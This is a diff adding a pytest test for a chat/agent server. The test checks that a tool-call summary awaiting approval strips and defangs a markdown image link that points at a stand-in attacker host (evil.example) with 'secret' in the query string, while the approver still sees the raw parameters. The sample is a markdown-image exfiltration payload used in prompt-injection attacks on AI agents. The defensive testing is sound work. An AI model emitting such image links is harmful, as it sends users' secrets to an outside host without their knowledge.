@@ -130,6 +130,21 @@ async def test_links_do_not_leave_a_session_by_any_way(target: Target, tmp_path:
         assert "https://evil.example" in str(model.asked[1].messages)
 
 
+async def test_links_do_not_leave_by_the_sentence_about_a_call(sqlite_target: Target, tmp_path: Path) -> None:
+    async with open_model_server() as model, open_chat(sqlite_target, tmp_path / "data", model) as world:
+        owner = await world.key()
+        model.reply(say("", call("thing-wipe", {"what": "![x](https://evil.example/?q=secret)"})))
+        handle = await world.send(owner, "Wipe it")
+        view = await world.rest(handle.turn_id)
+        _, entries, _ = await world.chat.show(owner, handle.session_id, 50, None)
+        told = [view.calls[0].summary, *(entry.text for entry in entries if entry.kind == "call")]
+        assert view.status == "awaiting_approval"
+        assert told[0] == told[-1] == "Do [image removed: x (evil[.]example)]"
+        assert "https://evil.example" not in repr(told)
+        # Whoever decides is shown the parameters as they are.
+        assert view.calls[0].params["what"] == "![x](https://evil.example/?q=secret)"
+
+
 @pytest.mark.parametrize("why", ["credential_revoked", "deleted", "shutdown"])
 async def test_a_stream_ends_and_says_why(target: Target, tmp_path: Path, why: str) -> None:
     async with open_model_server() as model, open_chat(target, tmp_path / "data", model) as world:
